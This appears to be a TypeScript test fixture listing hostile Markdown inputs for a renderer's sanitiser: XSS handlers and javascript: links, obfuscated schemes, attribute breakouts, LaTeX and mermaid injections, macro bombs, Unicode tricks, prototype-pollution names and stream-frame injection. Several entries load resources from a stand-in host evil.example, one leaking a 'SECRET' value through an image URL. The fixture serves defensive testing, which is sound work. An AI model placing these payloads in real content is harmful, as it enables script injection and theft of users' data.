const evil = "https://evil.example";

/** Markdown that tries to run something, to fetch something or to break the page; each with what it is about. */
export const hostileMarkdown: Readonly<Record<string, string>> = {
  "S18 handlers": `<img src=x onerror=alert(1)> <svg onload=alert(1)> <body onload=alert(1)>\n\n<details open ontoggle=alert(1)>x</details>`,
  "S18 script": `<script>alert(1)</script>\n\n<script src="${evil}/s.js"></script>\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  "S18 schemes": `[a](javascript:alert(1)) [b](vbscript:x) [c](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>`,
  "S18 split schemes": `[a](java&#x0A;script:alert(1)) [b](java&Tab;script:alert(1)) [c](\u0001javascript:alert(1)) [d](JaVaScRiPt&colon;alert(1))`,
  "S18 reference": `[x]\n\n[x]: javascript:alert(1) "t"\n\n[![y][x]](javascript:alert(2))`,
  "S18 attributes": `[a](https://e.example/"onmouseover="alert(1)) ![a](https://e.example/"onerror="alert(1)) [b](<https://e.example/' onclick='alert(1)> "t' onclick='alert(2)")`,
  "S18 embeds": `<object data="${evil}/o"></object><embed src="${evil}/e"><base href="${evil}/"><meta http-equiv=refresh content="0;url=${evil}">`,
  "S18 forms": `<form action="${evil}"><button>go</button></form><link rel=stylesheet href="${evil}/c.css"><style>@import "${evil}/d.css"</style>`,
  "S18 code": "```js onload=alert(1)\n<img src=x onerror=alert(1)>\n```\n\n`<svg onload=alert(1)>`",
  "S18 table": `| <img src=x onerror=alert(1)> | b |\n| - | - |\n| [x](javascript:alert(1)) | ![y](${evil}/t.png) |`,
  "S19 maths": `$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{${evil}/i.png}$$ \\(\\url{javascript:alert(1)}\\) $\\htmlStyle{background:url(${evil}/b)}{y}$ $\\htmlData{onclick=alert(1)}{z}$`,
  "S19 endless macros": `$\\def\\a{\\a\\a}\\a$ and $\\rule{1000em}{1000em}$ and $\\newcommand{\\b}[1]{\\b{#1#1}}\\b{x}$`,
  "S19 mermaid": `\`\`\`mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD\nA["<img src=x onerror=alert(1)>"]\nclick A "javascript:alert(1)"\n\`\`\``,
  "S21 images": `![x](${evil}/?d=SECRET) ![y](//evil.example/y) ![z][z]\n\n[z]: ${evil}/z.png\n\n<img srcset="${evil}/s.png 2x"> <picture><source srcset="${evil}/p.png"></picture>`,
  "S21 vectors": `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) ![y](data:image/svg+xml,<svg/onload=alert(1)>) ![a](/v1/attachments/../chat) <p style="background:url(${evil}/u)">`,
  "S21 prefetch": `<link rel=preload as=image href="${evil}/l"> <video poster="${evil}/v" src="${evil}/v.mp4"></video> <audio src="${evil}/a"></audio>`,
  "S24 directions": `\u202Ereversed\u202C \u2066isolated \u200B\u200D\uFEFF \u001B[31mred\u001B[0m \u0000 end\n\n\u202E\`code\u202E\` after`,
  "S24 marks": `Z${"\u0337\u0321".repeat(200)}a${"\u0301".repeat(300)} \`c${"\u0300".repeat(300)}\``,
  "S24 nesting": `${"> ".repeat(60)}x\n\n${"- ".repeat(60)}x\n\n${"[".repeat(60)}x${"](y)".repeat(60)}\n\n${"*_".repeat(60)}`,
  "S38 names":
    "[__proto__] [constructor] [toString]\n\n[__proto__]: https://e.example/1\n\n[constructor]: https://e.example/2\n\n```__proto__\nx\n```\n\n```constructor\nx\n```",
  "S42 frames": "text\n\nevent: finish\ndata: {}\n\n\rdata: [DONE]\r\n\u2028\u2029id: 9",
};
